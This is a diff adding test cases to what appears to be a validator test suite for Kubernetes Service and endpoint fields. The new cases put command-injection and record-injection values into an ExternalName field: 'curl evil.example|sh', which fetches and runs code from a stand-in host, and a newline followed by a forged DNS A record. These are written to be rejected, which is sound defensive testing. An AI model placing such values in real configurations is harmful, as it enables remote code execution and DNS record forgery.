@@ -121,6 +121,22 @@ const cases: [string, Mutation, string, string][] = [
     'ACCEPT',
   ],
   [
+    'an externalName with a shell command',
+    withService((s) => {
+      s.spec = { type: 'ExternalName', externalName: 'example.com;curl evil.example|sh' };
+    }),
+    'spec.externalName',
+    'curl evil.example|sh',
+  ],
+  [
+    'an externalName with a newline (record injection)',
+    withService((s) => {
+      s.spec = { type: 'ExternalName', externalName: 'example.com\nevil.example. IN A 198.18.0.66' };
+    }),
+    'spec.externalName',
+    'IN A 198.18.0.66',
+  ],
+  [
     'an endpoint address with a newline',
     withSlice((s) => {
       s.endpoints[0].addresses = ['10.1.0.1\nCOMMIT'];
